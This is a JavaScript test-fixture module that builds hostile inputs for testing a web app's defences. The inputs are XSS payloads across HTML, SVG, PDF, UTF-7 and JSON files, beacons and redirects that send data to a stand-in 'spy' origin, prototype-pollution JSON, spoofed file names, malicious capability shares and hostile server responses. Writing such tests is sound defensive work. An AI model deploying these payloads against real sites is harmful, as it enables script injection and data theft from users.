// Licensed under the Apache License, Version 2.0; see LICENSE.

// What strangers may have stored, and what a hostile server may say: tables, whose markup and
// scripts report to a place that must hear nothing.

import { file } from './samples.mjs'

const XHTML = 'http://www.w3.org/1999/xhtml'

// The scripts that each would run: one that reports, asks and takes the page away.
function script(spy, name) {
  return `fetch('${spy}/${name}');new Image().src='${spy}/${name}';alert(1);top.location='${spy}/'`
}

// Contents, by the type that they were stored with.
export function contents(spy) {
  const run = name => script(spy, name)
  const html = (name, markup) => file(name, 'text/html', markup)
  const svg = (name, inside) =>
    file(name, 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" ${inside}</svg>`)
  return [
    html('script.html', `<script>${run('script')}</script>`),
    html('onerror.html', `<img src=x onerror="${run('onerror')}">`),
    html('onload.html', `<body onload="${run('onload')}">`),
    html('refresh.html', `<meta http-equiv="refresh" content="0;url=${spy}/refresh">`),
    html('base.html', `<base href="${spy}/"><script src="base.js"></script><img src="base.png">`),
    html(
      'frame.html',
      `<iframe src="${spy}/frame"></iframe><object data="${spy}/object"></object>`
    ),
    html('srcdoc.html', `<iframe srcdoc="<script>${run('srcdoc')}</script>"></iframe>`),
    html('form.html', `<form action="${spy}/form"><input autofocus onfocus="this.form.submit()">`),
    html('style.html', `<style>@import url(${spy}/style);*{background:url(${spy}/back)}</style>`),
    html(
      'link.html',
      `<link rel="prefetch" href="${spy}/link"><link rel="stylesheet" href="${spy}/l">`
    ),
    html('javascript.html', `<a autofocus href="javascript:${run('javascript')}">x</a>`),
    html('media.html', `<video autoplay src="${spy}/video"></video><audio src="${spy}/audio">`),
    html(
      'policy.html',
      '<meta http-equiv="Content-Security-Policy" content="default-src *">' +
        `<script>${run('policy')}</script>`
    ),
    html('closing.html', `--></title></style></script><script>${run('closing')}</script>`),
    svg('script.svg', `><script>${run('svg')}</script>`),
    svg('onload.svg', `onload="${run('svg-onload')}">`),
    svg(
      'foreign.svg',
      `><foreignObject><iframe xmlns="${XHTML}" src="${spy}/foreign"/></foreignObject>`
    ),
    svg(
      'image.svg',
      'xmlns:x="http://www.w3.org/1999/xlink">' +
        `<image x:href="${spy}/image"/><use href="${spy}/use#a"/>`
    ),
    file(
      'mathml.xml',
      'application/xhtml+xml',
      `<html xmlns="http://www.w3.org/1999/xhtml"><script>${run('xhtml')}</script></html>`
    ),
    file('style.xml', 'text/xml', `<?xml-stylesheet href="${spy}/xsl" type="text/xsl"?><a/>`),
    file(
      'script.pdf',
      'application/pdf',
      `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${spy}/pdf)>>` +
        `/AA<</O<</S/JavaScript/JS(app.launchURL\\("${spy}/js"\\))>>>>>>endobj\n` +
        'trailer<</Root 1 0 R>>'
    ),
    file('html.pdf', 'application/pdf', `<script>${run('html-pdf')}</script>`),
    file('html.png', 'image/png', `<script>${run('html-png')}</script>`),
    file('html.json', 'application/json', `<script>${run('html-json')}</script>`),
    file('text.txt', 'text/plain', `<script>${run('text')}</script>`),
    file('worker.js', 'text/javascript', run('worker')),
    file(
      'proto.json',
      'application/json',
      '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}},' +
        `"<img src=x onerror=alert(1)>":"<script>${run('json')}</script>"}`
    ),
    file(
      'credential.json',
      'application/json',
      JSON.stringify({
        type: ['VerifiableCredential', { a: 1 }],
        issuer: { id: `<img src=x onerror="${run('issuer')}">` },
        credentialSubject: [null, 7, { id: 'javascript:alert(1)' }],
        validFrom: {}
      })
    ),
    file('deep.json', 'application/json', '['.repeat(500) + ']'.repeat(500)),
    file('playlist.m3u8', 'audio/mpegurl', `#EXTM3U\n#EXTINF:9,\n${spy}/playlist\n`),
    file('html.wav', 'audio/wav', `<script>${run('html-wav')}</script>`),
    file('type.odd', 'text/html;charset="utf-7"', `+ADw-script+AD4-${run('utf7')}+ADw-/script+AD4-`)
  ]
}

// Names of spaces, collections and files.
export function names(spy) {
  const run = script(spy, 'name')
  return [
    `<script>${run}</script>`,
    `<img src=x onerror="${run}">`,
    `"><svg onload="${run}">`,
    'javascript:alert(1)',
    '\u202Egnp.exe\u202C \u2066reversed\u2069',
    '{{constructor.constructor("alert(1)")()}}',
    `]]>${'A'.repeat(400)}`,
    '&lt;b&gt;&#0;\u0001'
  ]
}

// Texts that are pasted as a share.
export function shareTexts(spy) {
  const target = `${spy}/space/x/`
  const share = {
    id: 'urn:uuid:1',
    invocationTarget: target,
    parentCapability: 'urn:zcap:root:x',
    controller: 'did:key:z6Mk',
    expires: '2999-01-01T00:00:00Z',
    proof: { capabilityChain: [] }
  }
  const of = members => JSON.stringify({ ...share, ...members })
  return [
    `<script>${script(spy, 'share')}</script>`,
    '{"__proto__":{"id":"x"}}',
    'null',
    '[]',
    of({ invocationTarget: `javascript:${script(spy, 'target')}` }),
    of({ invocationTarget: 'data:text/html,<script>alert(1)</script>/space/x/' }),
    of({ invocationTarget: `${spy}/../space/%2e%2e/%00` }),
    of({ controller: { toString: 'x' }, proof: [[]] }),
    of({ expires: { valueOf: 1 } }),
    'x'.repeat(70000)
  ]
}

// A server's answers: what is asked for, and head and body of what it says. `spy` is another
// origin, which must hear nothing of a signature, nor anything else.
export function answers(spy, own) {
  const json = (body, headers = {}, status = 200) => ({
    status,
    headers: { 'content-type': 'application/json', ...headers },
    body: typeof body === 'string' ? body : JSON.stringify(body)
  })
  const problem = (status, detail) =>
    json({ type: detail, title: detail, errors: [{ detail, pointer: detail }] }, {}, status)
  const markup = `<img src=x onerror="${script(spy, 'problem')}">`
  const item = { id: 'x', name: markup, url: `${spy}/space/x/` }
  return [
    ['a problem with markup', problem(400, markup)],
    [
      'a problem that is no JSON',
      json(`{"title":`, { 'content-type': 'application/problem+json' }, 500)
    ],
    ['a problem of other types', json({ title: {}, errors: { detail: [] } }, {}, 403)],
    ['a page instead', { status: 200, headers: { 'content-type': 'text/html' }, body: markup }],
    ['nothing', { status: 200, headers: {}, body: '' }],
    ['a redirection', { status: 307, headers: { location: `${spy}/stolen` }, body: '' }],
    ['another redirection', { status: 302, headers: { location: `${spy}/stolen` }, body: '' }],
    [
      'a redirection to a script',
      { status: 301, headers: { location: 'javascript:alert(1)' }, body: '' }
    ],
    ['a list that goes on elsewhere', json({ items: [], next: `${spy}/next` })],
    ['items that are elsewhere', json({ items: [item] })],
    ['items with scripts for URLs', json({ items: [{ ...item, url: 'javascript:alert(1)' }] })],
    ['items of other types', json({ items: [null, 7, [], { id: {}, name: [], url: 7 }] })],
    ['items that are none', json({ items: 'x', totalItems: 'x' })],
    ['a name with markup', json({ items: [{ id: 'x', name: markup, url: `${own}/space/x/` }] })],
    [
      'a name that is no text',
      json({ items: [{ id: 'x', name: { a: 1 }, url: `${own}/space/x/` }] })
    ],
    ['JSON that is deep', json('['.repeat(100000))],
    ['a length that is not kept', { status: 200, headers: { 'content-length': '99' }, body: '{}' }],
    ['a time that is none', json({ items: [] }, { date: 'never' })]
  ]
}
